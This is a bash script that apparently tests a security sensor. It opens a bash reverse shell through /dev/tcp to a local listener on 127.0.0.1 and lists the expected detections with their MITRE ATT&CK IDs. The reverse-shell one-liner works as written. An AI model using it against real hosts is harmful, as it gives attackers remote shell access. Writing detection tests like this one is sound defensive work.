#!/bin/bash
# A reverse shell: bash's /dev/tcp wired to a listener, which tells it to exit.
# expect: sensor.execution.reverse_shell T1059.004
# expect: sensor.command_and_control.shell_connect T1095
. "$(dirname "$0")/lib.sh"
listener
port=$LISTEN_PORT
timeout 10 bash -c "bash -i >& /dev/tcp/127.0.0.1/$port 0>&1" 2>/dev/null || true
wait "$LISTEN_PID" 2>/dev/null || true
